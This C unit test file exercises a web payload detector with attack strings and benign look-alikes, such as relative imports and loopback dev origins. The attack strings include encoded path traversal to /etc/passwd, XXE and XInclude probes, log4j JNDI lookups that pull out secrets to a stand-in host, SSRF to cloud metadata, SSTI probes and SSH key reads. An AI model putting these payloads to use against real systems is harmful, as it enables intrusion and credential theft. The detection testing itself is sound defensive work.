/* test_payload_r10t.c - issue 20, the tenth red team on traversal and the
 * data classes (t): traversal an application decodes from base64 before
 * it opens the file, Shellshock's probe cut short at "() {", and the
 * benign look-alikes the ninth round left killed: XHTML's character
 * entities (<!ENTITY nbsp "&#160;">), a DocBook XInclude of a shared part
 * one or two directories up, a front end's relative component paths,
 * log4j lookups of a setting, a development server's loopback origin,
 * template arithmetic shown with its result, a key's path in a setup
 * step, the system's temp logs; and a program loaded from a UNC share on
 * a named host (told).
 * Attacks draw their kind as a query value and a form body (and the kill
 * line where rt_run_kill asks); benign rows draw nothing there
 * (payload_rt_table.h), or stay under the kill line where so tested. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define T PAYLOAD_TRAVERSAL
#define X PAYLOAD_XXE
#define S PAYLOAD_SHELLSHOCK
#define N PAYLOAD_NONE

/* a value under the kill line but found: 50..59 in both contexts */
static void told(const char *v, int kind)
{
	for (int ctx = 0; ctx < 2; ctx++) {
		int b = rt_best(v, ctx, kind);
		if (b < 50 || b >= 60)
			fail_msg("%s: %d in context %d (want 50..59)", v, b, ctx);
	}
}

/* "Li4vLi4v" is "../../": a file parameter the application decodes */
static void test_base64_traversal(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", T},
		{"Li4vLi4vZXRjL3Bhc3N3ZA==", T},
		{"Li4vLi4vLi4vLi4vd2luZG93cy93aW4uaW5p", T},
		{"Li4lMmYuLiUyZi4uJTJmZXRjJTJmcGFzc3dk", T},
		{"L2V0Yy9zaGFkb3c=", T},
		{"dXBsb2Fkcy8yMDI0L2ludm9pY2UucGRm", N}, /* uploads/2024/invoice.pdf */
		{"aW1hZ2VzL2xvZ28ucG5n", N},             /* images/logo.png */
	};
	rt_run_kill("base64 traversal", T, t, sizeof(t) / sizeof(t[0]));
}

/* "() {" with nothing in it: a probe cut short by a length limit; bash
 * runs nothing from it, so told, not killed */
static void test_shellshock_cut(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"() {", S},
		{"(){", S},
		{"() {   ", S},
		{"() {}", N}, /* an empty JavaScript method body (test_payload_inj.c) */
		{"() { }", N},
		{"foo() {", N},
		{"() => {", N},
		{"function () {", N},
		{"() {}; x", N},
	};
	rt_run("shellshock cut", t, sizeof(t) / sizeof(t[0]));
	told("() {", PAYLOAD_SHELLSHOCK);
	told("(){ ", PAYLOAD_SHELLSHOCK);
}

/* XHTML's DTD names characters: one character reference (or the
 * character the value's decoding left) is no markup and no probe text */
static void test_character_entities(void **st)
{
	(void)st;
	told("<!ENTITY nbsp \"&#160;\">", PAYLOAD_XXE);
	told("<!ENTITY copy \"&#xA9;\">", PAYLOAD_XXE);
	told("<!ENTITY mdash '&#8212;'>", PAYLOAD_XXE);
	static const struct rtcase t[] = {
		{"<!ENTITY xxe \"test\">", X},
		{"<!ENTITY lt \"&#60;\">", X},
		{"<!ENTITY % nbsp \"&#160;\">", X},
		{"<!ENTITY a \"&#160;&b;\">", X},
		{"<!ENTITY x SYSTEM \"&#160;\">", X},
	};
	rt_run_kill("entities", X, t, sizeof(t) / sizeof(t[0]));
}

/* DocBook includes a shared part one or two directories up, as XML */
static void test_xinclude_book_climb(void **st)
{
	(void)st;
	told("<xi:include href=\"../common/legal.xml\"/>", PAYLOAD_XXE);
	told("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"../../shared/bookinfo.xml\"/>",
	     PAYLOAD_XXE);
	static const struct rtcase t[] = {
		{"<xi:include href=\"../common/legal.xml\" parse=\"text\"/>", X},
		{"<xi:include href=\"../WEB-INF/web.xml\"/>", X},
		{"<xi:include href=\"../.git/x.xml\"/>", X},
		{"<xi:include href=\"../x.xml\"/><xi:include href=\"/etc/passwd\" parse=\"text\"/>", X},
		{"<xi:include href=\"../a%2f..%2f..%2fetc/x.xml\"/>", X},
		{"<xi:include href=\"../../../../etc/x.xml\"/>", T},
	};
	rt_run_kill("xinclude climb", X, t, sizeof(t) / sizeof(t[0]));
}

/* a front end's components and modules, imported relatively */
static void test_front_end_paths(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"../../shared/components/Modal.vue", N},
		{"../../src/utils/helpers.ts", N},
		{"../components/Button.jsx", N},
		{"../../lib/Store.svelte", N},
		{"../../../../../../etc/passwd%00.vue", T},
		{"../../../../../../../../etc/shadow.tsx", T},
		{"../../.env.ts", T},
		/* a module a statement of code imports relatively */
		{"require('../../../lib/utils')", N},
		{"x = require('../../../lib/utils')", N},
		{"import x from '../../../lib/utils'", N},
		{"import { a, b } from \"../../../../shared/api\";", N},
		{"@import '../../../scss/variables';", N},
		{"require('../../../../../etc/passwd')", T},
		{"require('../../../../../../../../../../tmp/x')", T},
		{"require('../../../x'); process.exit()", T},
		{"import x from '../../../../../../../etc/shadow'", T},
	};
	rt_run_kill("front end", T, t, sizeof(t) / sizeof(t[0]));
}

/* log4j lookups of a setting written plainly: a configuration line's
 * (told); a secret by name, a JVM probe, a lookup spelt by lookups or
 * one inside a JNDI URL stay kills */
static void test_setting_lookups(void **st)
{
	(void)st;
	told("${sys:user.home}", PAYLOAD_JNDI);
	told("${env:HOME}/logs", PAYLOAD_JNDI);
	told("${ctx:requestId}", PAYLOAD_JNDI);
	static const struct rtcase t[] = {
		{"${env:AWS_SECRET_ACCESS_KEY}", PAYLOAD_JNDI},
		{"${env:DB_PASSWORD}", PAYLOAD_JNDI},
		{"${java:version}", PAYLOAD_JNDI},
		{"${${env:X:-s}ys:user.home}", PAYLOAD_JNDI},
		{"${${lower:e}nv:HOME}", PAYLOAD_JNDI},
		{"${jndi:ldap://x.example/${env:USER}}", PAYLOAD_JNDI},
	};
	rt_run_kill("setting lookups", PAYLOAD_JNDI, t, sizeof(t) / sizeof(t[0]));
}

/* a development server's loopback origin alone: told; a path, a
 * service's port, userinfo, a line break or an evasive spelling stays */
static void test_dev_origin(void **st)
{
	(void)st;
	told("http://localhost:8080", PAYLOAD_SSRF);
	told("https://127.0.0.1:5173/", PAYLOAD_SSRF);
	told("http://[::1]:3000", PAYLOAD_SSRF);
	static const struct rtcase t[] = {
		{"http://localhost:8080/admin", PAYLOAD_SSRF},
		{"http://localhost:6379", PAYLOAD_SSRF},
		{"http://127.0.0.1:2375/", PAYLOAD_SSRF},
		{"http://localhost", PAYLOAD_SSRF},
		{"http://0x7f000001:8080", PAYLOAD_SSRF},
		{"http://localhost:8080/%0d%0a", PAYLOAD_SSRF},
		{"http://evil.example@localhost:8080", PAYLOAD_SSRF},
		{"xhttp://localhost:8080", PAYLOAD_SSRF},
	};
	rt_run_kill("dev origin", PAYLOAD_SSRF, t, sizeof(t) / sizeof(t[0]));
}

/* arithmetic in a template with its result written after it */
static void test_arith_shown(void **st)
{
	(void)st;
	told("{{ 2 * 3 }} = 6", PAYLOAD_SSTI);
	told("{{7*7}} => 49", PAYLOAD_SSTI);
	told("<%= 6*7 %> == 42", PAYLOAD_SSTI);
	told("the template {{7*7}} renders 49 in Jinja", PAYLOAD_SSTI);
	static const struct rtcase t[] = {
		{"{{ 2 * 3 }} = 7", PAYLOAD_SSTI},
		{"{{7*7}}", PAYLOAD_SSTI},
		{"{{7*'7'}} = 7777777", PAYLOAD_SSTI},
		{"{{ 2 * 3 }} = 6x", PAYLOAD_SSTI},
		{"{{999999*999999}} = 1", PAYLOAD_SSTI},
		{"{{7*7}} renders 50", PAYLOAD_SSTI},
	};
	rt_run_kill("arith shown", PAYLOAD_SSTI, t, sizeof(t) / sizeof(t[0]));
}

/* a key's path after chmod or ssh-add, the system's temp logs: told or
 * nothing; a climb, a reader, a chained command stay */
static void test_setup_paths(void **st)
{
	(void)st;
	told("chmod 600 ~/.ssh/id_rsa", T);
	told("ssh-add ~/.ssh/id_ed25519", T);
	static const struct rtcase t[] = {
		{"C:\\Windows\\Temp\\install.log", N},
		{"cat ~/.ssh/id_rsa", T},
		{"chmod 600 ../../../../root/.ssh/id_rsa", T},
		{"chmod 600 ~/.ssh/id_rsa; cat ~/.ssh/id_rsa", T},
		{"C:\\Windows\\Temp\\..\\win.ini", T},
		{"..\\..\\..\\Windows\\Temp\\x.log", T},
		{"C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config", T},
	};
	rt_run_kill("setup paths", T, t, sizeof(t) / sizeof(t[0]));
}

/* a program loaded from a share on a named host: told */
static void test_unc_program(void **st)
{
	(void)st;
	told("\\\\evil.example\\share\\payload.dll", T);
	told("\\\\10.0.0.9\\x\\run.hta", T);
	static const struct rtcase t[] = {
		{"\\\\fileserver\\Marketing\\a.pdf", N},
		{"\\\\nas01\\tools\\setup.exe", N},
		{"\\\\10.0.0.5\\share\\x.pdf", N},
	};
	rt_run("unc program", t, sizeof(t) / sizeof(t[0]));
}

/* second table's kill-level look-alikes: DocBook's conditional-section
 * switch, a Spring Boot class path entry (an archive's directory) */
static void test_second_table_lookalikes(void **st)
{
	(void)st;
	told("<!ENTITY % draft 'INCLUDE'>", PAYLOAD_XXE);
	told("<!ENTITY % draft \"IGNORE\">", PAYLOAD_XXE);
	told("jar:file:/app.jar!/BOOT-INF/classes!/", T);
	told("jar:file:/opt/app/lib/app.jar!/", T);
	static const struct rtcase t[] = {
		{"<!ENTITY % draft 'INCLUDE '>", X},
		{"<!ENTITY % x SYSTEM 'INCLUDE'>", X},
		{"<!ENTITY x 'INCLUDE'>", X},
	};
	rt_run_kill("conditional section", X, t, sizeof(t) / sizeof(t[0]));
	static const struct rtcase j[] = {
		{"jar:file:/opt/app/lib/app.jar!/application.yml", T},
		{"jar:file:/app.jar!/BOOT-INF/classes!/../../../etc/", T},
		{"jar:file:///etc/passwd!/", T},
		{"jar:http://evil.example/x.jar!/", T},
		{"jar:file:/tmp/x.zip!/", T},
		{"jar:file:/app.jar!/%2e%2e/", T},
	};
	rt_run_kill("jar directory", T, j, sizeof(j) / sizeof(j[0]));
}

/* a special scheme's slashes spelt otherwise: WHATWG's parser skips any
 * run of '/' and '\\' before the host */
static void test_special_slashes(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"http:/169.254.169.254/latest/meta-data/", PAYLOAD_SSRF},
		{"https:\\\\127.0.0.1:6379/", PAYLOAD_SSRF},
		{"http:///169.254.169.254/", PAYLOAD_SSRF},
		{"http://\\\\127.0.0.1/x", PAYLOAD_SSRF},
		{"HTTP:\\/127.0.0.1/admin", PAYLOAD_SSRF},
		{"see http:/example.com for details", N},
		{"http:/www.example.com/page", N},
		{"ratio 3:/2", N},
		{"http://example.com/a\\b", N},
	};
	rt_run_kill("special slashes", PAYLOAD_SSRF, t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_base64_traversal),
		cmocka_unit_test(test_shellshock_cut),
		cmocka_unit_test(test_character_entities),
		cmocka_unit_test(test_xinclude_book_climb),
		cmocka_unit_test(test_front_end_paths),
		cmocka_unit_test(test_setting_lookups),
		cmocka_unit_test(test_dev_origin),
		cmocka_unit_test(test_arith_shown),
		cmocka_unit_test(test_setup_paths),
		cmocka_unit_test(test_unc_program),
		cmocka_unit_test(test_second_table_lookalikes),
		cmocka_unit_test(test_special_slashes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
